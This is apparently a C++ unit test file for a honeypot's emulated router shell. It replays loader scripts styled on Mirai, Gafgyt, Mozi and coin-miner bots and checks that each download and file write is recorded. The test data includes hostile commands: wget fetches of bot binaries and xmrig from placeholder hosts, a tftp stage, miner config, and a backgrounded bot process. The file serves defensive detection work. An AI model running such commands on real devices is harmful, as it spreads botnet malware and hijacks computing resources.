// Loader scripts written by the team in the style of public Mirai, Gafgyt, Mozi and coin-miner
// loaders (tests/data/loaders/), typed line by line into a session as a bot does: every stage that
// fetches or writes a file reaches the collector, in order, and the shell answers like the device.

#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "honeypot/session/shell_session.h"
#include "support/recording_collector.h"
#include "unit/honeypot/shell/persona_fixture.h"

namespace kansoku::honeypot {
namespace {

struct Run {
    testing::RecordingCollector collector;
    std::string output;
};

/// Types the fixture's lines (comments skipped) into one session, then closes it.
std::unique_ptr<Run> typeLoader(const std::string& name) {
    std::ifstream file(std::string(KANSOKU_SOURCE_DIR) + "/tests/data/loaders/" + name);
    EXPECT_TRUE(file.good()) << name;
    auto run = std::make_unique<Run>();
    ShellSession session(run->collector, SessionContext{"00000000000000f1", "telnet", "198.51.100.7", 40000, 23, ""},
                         shell::testing::routerPersona());
    std::string line;
    while (std::getline(file, line)) {
        if (line.empty() || line[0] == '#') {
            continue;
        }
        run->output += session.runLine(line).output;
    }
    session.close();
    return run;
}

TEST(LoaderFixtures, MiraiEchoDropperThenWget) {
    auto run = typeLoader("mirai_echo.sh");
    EXPECT_EQ(run->collector.stages(),
              (std::vector<std::string>{"file /tmp/.d", "wget http://192.0.2.10/bins/mirai.mips"}));
    EXPECT_EQ(run->collector.files()[0].content.size(), 24u);
    EXPECT_NE(run->output.find("ECCHI: applet not found"), std::string::npos);
    EXPECT_NE(run->output.find(" MIPS 24Kc V7.4"), std::string::npos) << run->output; // cpuinfo | awk -F:
}

TEST(LoaderFixtures, GafgytPerArchitectureLinesAndTftpStage) {
    auto run = typeLoader("gafgyt_bins.sh");
    const auto stages = run->collector.stages();
    ASSERT_EQ(stages.size(), 3u) << ::testing::PrintToString(stages);
    EXPECT_EQ(stages[0], "wget http://192.0.2.20/bins/sora.mips");
    EXPECT_EQ(stages[1], "wget http://192.0.2.20/bins/sora.arm7");
    EXPECT_EQ(stages[2].rfind("tftp ", 0), 0u);
    EXPECT_NE(stages[2].find("tftp1.sh"), std::string::npos);
    EXPECT_NE(run->output.find("history: not found"), std::string::npos) << run->output;
}

TEST(LoaderFixtures, MoziNohupBackgroundAndKillByPid) {
    auto run = typeLoader("mozi_p2p.sh");
    EXPECT_EQ(run->collector.stages(), (std::vector<std::string>{"wget http://192.0.2.30:8080/Mozi.m"}));
    EXPECT_EQ(run->output.find("kill: "), std::string::npos) << run->output; // nothing to kill: no error
}

TEST(LoaderFixtures, MinerHereDocBase64AndSed) {
    auto run = typeLoader("miner_b64.sh");
    // The router has no curl ("not found"), so the `|| wget` fallback fetches; run.sh is reported when
    // `sh run.sh` runs it, config.json (never run) when the session closes.
    EXPECT_EQ(run->collector.stages(), (std::vector<std::string>{"wget http://192.0.2.40/xmrig", "file /tmp/.x/run.sh",
                                                                 "file /tmp/.x/config.json"}));
    const auto files = run->collector.files();
    ASSERT_EQ(files.size(), 2u);
    EXPECT_EQ(files[0].content, "#!/bin/sh\ncd /tmp/.x\n./xmrig -c config.json\n");
    EXPECT_NE(files[1].content.find("\"threads\":2}"), std::string::npos) << files[1].content; // 1 CPU * 2
    EXPECT_NE(run->output.find("\"threads\":2}"), std::string::npos);                          // tail -n 1
}

TEST(LoaderFixtures, StartedBotsShowInPsUntilKilled) {
    testing::RecordingCollector collector;
    ShellSession session(collector, SessionContext{"00000000000000f2", "ssh", "198.51.100.8", 40001, 22, ""},
                         shell::testing::routerPersona());
    // A MIPS big-endian ELF (the persona's own header): it "runs" here.
    session.runLine("cd /tmp; cat /bin/busybox > .b; echo bot >> .b; chmod 777 .b");
    auto ps = session.runLine("nohup ./.b -s scan >/dev/null 2>&1 & ps");
    EXPECT_NE(ps.output.find(" 1403 root"), std::string::npos) << ps.output;
    EXPECT_NE(ps.output.find("./.b -s scan"), std::string::npos) << ps.output;
    auto killed = session.runLine("kill -9 $(ps | grep .b | awk '{print $1}'); ps | grep -c scan; kill 99999");
    EXPECT_EQ(killed.output.find("./.b -s scan"), std::string::npos) << killed.output;
    EXPECT_NE(killed.output.find("kill: can't kill pid 99999: No such process"), std::string::npos) << killed.output;
}

} // namespace
} // namespace kansoku::honeypot
